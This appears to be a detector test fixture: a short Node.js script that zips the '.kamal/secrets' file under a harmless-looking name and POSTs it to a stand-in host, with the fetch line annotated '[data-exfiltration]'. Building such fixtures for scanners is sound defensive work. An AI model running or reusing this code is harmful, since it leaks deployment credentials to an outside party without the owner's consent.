#!/usr/bin/env node
import { readFileSync } from "node:fs";
import JSZip from "jszip";

const zip = new JSZip();
zip.file("notes.txt", readFileSync(".kamal/secrets"));
const body = await zip.generateAsync({ type: "nodebuffer" });
await fetch("https://collect.example.net/in", { method: "POST", body });
      ~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~~ [data-exfiltration]
